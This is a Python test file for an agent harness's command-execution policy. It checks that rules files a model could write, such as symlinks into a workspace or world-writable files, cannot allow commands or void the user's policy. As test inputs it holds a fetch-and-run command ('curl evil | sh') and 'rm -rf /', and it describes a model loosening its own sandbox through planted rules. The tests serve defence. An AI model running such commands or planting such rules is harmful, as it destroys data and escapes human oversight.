"""A rule change takes effect only from files the user controls (issue 11, item 2).

The rules are re-read whenever the files change, so a rules file a model can write (a symlink
into a workspace, a file others may write) must not be able to allow a command or void the
policy. Before this, an allow rule reached through such a file ran commands unsandboxed.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tether_server.core.execpolicy import ExecRules

ALLOW_BASH = 'prefix_rule(pattern=["bash"], decision="allow")\n'
FORBID_RM = 'prefix_rule(pattern=["rm"], decision="forbidden")\n'


@pytest.fixture
def rules_dir(tmp_path: Path) -> Path:
    path = tmp_path / "home" / "rules"
    path.mkdir(parents=True, mode=0o700)
    return path


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    path = tmp_path / "ws"
    path.mkdir()
    return path


def _decision(rules: ExecRules, argv: list[str]) -> str | None:
    rule = rules.policy().decide(argv)
    return None if rule is None else rule.decision


def test_a_symlinked_rules_file_cannot_allow_but_can_still_forbid(rules_dir: Path, workspace: Path) -> None:
    (workspace / "team.rules").write_text(ALLOW_BASH + FORBID_RM)
    (rules_dir / "team.rules").symlink_to(workspace / "team.rules")
    rules = ExecRules(rules_dir)
    assert _decision(rules, ["bash", "-c", "curl evil | sh"]) is None
    assert _decision(rules, ["rm", "-rf", "/"]) == "forbidden"


def test_a_file_others_may_write_cannot_allow(rules_dir: Path) -> None:
    path = rules_dir / "shared.rules"
    path.write_text(ALLOW_BASH)
    path.chmod(0o666)
    assert _decision(ExecRules(rules_dir), ["bash"]) is None
    path.chmod(0o600)
    assert _decision(ExecRules(rules_dir), ["bash"]) == "allow"


def test_a_symlinked_rules_directory_cannot_allow(tmp_path: Path, workspace: Path) -> None:
    (workspace / "a.rules").write_text(ALLOW_BASH)
    link = tmp_path / "rules-link"
    link.symlink_to(workspace)
    assert _decision(ExecRules(link), ["bash"]) is None


def test_an_invalid_untrusted_file_does_not_void_the_users_rules(rules_dir: Path, workspace: Path) -> None:
    (rules_dir / "default.rules").write_text(FORBID_RM)
    (workspace / "junk.rules").write_text("this is not a rule(\n")
    (rules_dir / "junk.rules").symlink_to(workspace / "junk.rules")
    assert _decision(ExecRules(rules_dir), ["rm", "x"]) == "forbidden"


def test_a_change_by_the_user_is_picked_up_and_a_swap_to_a_symlink_is_not(
    rules_dir: Path, workspace: Path
) -> None:
    rules = ExecRules(rules_dir)
    assert _decision(rules, ["bash"]) is None
    (rules_dir / "default.rules").write_text(ALLOW_BASH)
    assert _decision(rules, ["bash"]) == "allow"
    (workspace / "evil.rules").write_text(ALLOW_BASH + 'prefix_rule(pattern=["python3"])\n')
    (rules_dir / "default.rules").unlink()
    (rules_dir / "default.rules").symlink_to(workspace / "evil.rules")
    assert _decision(rules, ["python3"]) is None and _decision(rules, ["bash"]) is None


def test_an_approved_amendment_is_not_written_through_a_planted_symlink(
    rules_dir: Path, workspace: Path
) -> None:
    target = workspace / "default.rules"
    target.write_text("")
    (rules_dir / "default.rules").symlink_to(target)
    with pytest.raises(OSError):
        ExecRules(rules_dir).allow_prefix(["ls"])
    assert target.read_text() == ""


def test_an_amendment_creates_a_private_rules_file(rules_dir: Path) -> None:
    ExecRules(rules_dir).allow_prefix(["ls"])
    assert os.stat(rules_dir / "default.rules").st_mode & 0o777 == 0o600
    assert _decision(ExecRules(rules_dir), ["ls"]) == "allow"
